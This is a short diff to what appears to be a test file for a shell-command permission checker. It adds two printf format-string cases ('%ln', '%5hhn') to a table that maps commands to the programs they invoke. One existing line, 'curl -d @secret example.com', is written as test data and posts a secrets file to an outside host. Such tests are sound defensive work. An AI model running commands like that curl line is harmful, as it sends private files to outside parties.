@@ -46,6 +46,8 @@ from .parts import OPEN, blocked, decision, unasked
         ('printf %n PATH; ls', ['printf', 'ls']),
         ('printf -- "%5$hn" PATH', ['printf']),
         ('printf -- a"$x"', ['printf']),
+        ("printf '%ln' PATH; ls", ['printf', 'ls']),
+        ("printf 'a%5hhn' PATH; ls", ['printf', 'ls']),
         ('curl -d @secret example.com', ['curl']),
         ('tar -Af a.tar b.tar', ['tar']),
         ('tar Af a.tar b.tar', ['tar']),
